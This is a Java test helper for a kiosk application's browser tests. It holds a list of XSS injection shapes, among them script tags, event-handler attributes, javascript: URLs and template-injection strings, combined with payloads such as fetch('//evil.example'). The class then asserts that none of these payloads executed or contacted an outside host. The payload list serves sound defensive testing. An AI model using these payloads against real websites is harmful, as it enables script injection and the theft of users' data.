package cn.tongxiaobing.kiosk.journey;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.tongxiaobing.kiosk.journey.Hall.Screen;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import java.util.List;
import java.util.stream.Stream;

/** Words in which a script is hidden, in the shapes that have worked on some page. */
final class Hostile {

  private static final List<String> DOES =
      List.of("window.__x=1", "top.__x=1", "eval('__x=1')", "fetch('//evil.example')", "alert(1)");

  /** Each with what it would do in place of the {@code *}. */
  private static final List<String> SHAPES =
      List.of(
          "<script>*</script>",
          "<img src=x onerror=*>",
          "<svg onload=*>",
          "<svg><script>*</script></svg>",
          "<iframe srcdoc='<script>*</script>'>",
          "<iframe src=javascript:*>",
          "<a href=javascript:*>x</a>",
          "<body onload=*>",
          "<input autofocus onfocus=*>",
          "<details open ontoggle=*>",
          "<video><source onerror=*>",
          "<math><mtext><img src=x onerror=*>",
          "<style>@import'//evil.example'</style><b onclick=*>",
          "<link rel=stylesheet href=//evil.example><b onclick=*>",
          "<base href=//evil.example><b onclick=*>",
          "<meta http-equiv=refresh content=0;url=javascript:*>",
          "<form action=javascript:*><button>x</button></form>",
          "<object data=javascript:*>",
          "<embed src=javascript:*>",
          "<template><script>*</script></template>",
          "</textarea><script>*</script>",
          "</title><script>*</script>",
          "--><script>*</script>",
          "]]><script>*</script>",
          "' onmouseover=* x='",
          "javascript:*",
          "data:text/html,<script>*</script>",
          "{{constructor.constructor(`*`)()}}",
          "${*}",
          "&lt;script&gt;*&lt;/script&gt;");

  private Hostile() {}

  /** Every shape with everything that it might do. */
  static List<String> all() {
    return DOES.stream().flatMap(does -> doing(does).stream()).toList();
  }

  /** Every shape with one thing to do. */
  static List<String> shapes() {
    return doing(DOES.getFirst());
  }

  private static List<String> doing(String does) {
    return SHAPES.stream().map(shape -> shape.replace("*", does)).toList();
  }

  /** And nothing would have been let run by mistake. */
  static void nothingRan(Screen screen) {
    Page page = screen.page();
    assertThat(page.evaluate("() => typeof window.__x")).isEqualTo("undefined");
    assertThat(screen.complaints())
        .as("besides that nobody was logged in at first")
        .allMatch(said -> said.contains("401"));
    assertThat(screen.requestsElsewhere()).isEmpty();
    Stream.of("document.body.innerHTML = '<b>'", "document.write('<b>')")
        .forEach(script ->
            assertThatThrownBy(() -> page.evaluate("() => { " + script + " }"))
                .isInstanceOf(PlaywrightException.class)
                .hasMessageContaining("TypeError"));
  }
}
